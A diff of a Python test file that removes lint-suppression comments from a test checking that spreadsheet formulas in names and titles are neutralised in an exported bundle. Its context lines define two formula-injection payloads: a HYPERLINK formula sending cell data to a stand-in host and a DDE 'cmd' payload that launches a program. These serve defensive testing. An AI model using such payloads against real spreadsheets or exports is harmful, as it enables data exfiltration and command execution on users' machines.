@@ -14,7 +14,7 @@ import pytest
 from convergence_tui.report.tables import cell
 from convergence_tui.usecases.session import Session
 from tests.conftest import MINI
-from tests.test_bundle import PASSWORD, entries_of, identity  # noqa: F401
+from tests.test_bundle import PASSWORD, entries_of, identity
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez ici")'
 CMD = "+cmd|' /C calc'!A0"
@@ -48,7 +48,7 @@ def read_csv(data: bytes) -> list[list[str]]:
     return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
 
 
-def test_formulas_in_names_and_titles_are_neutralised_in_the_bundle(cli, complete_db, identity, tmp_path,  # noqa: F811
+def test_formulas_in_names_and_titles_are_neutralised_in_the_bundle(cli, complete_db, identity, tmp_path,
                                                                     monkeypatch):
     with Session.open(complete_db, MINI) as s:
         s.set_answer("svc-1", "name", HYPERLINK)
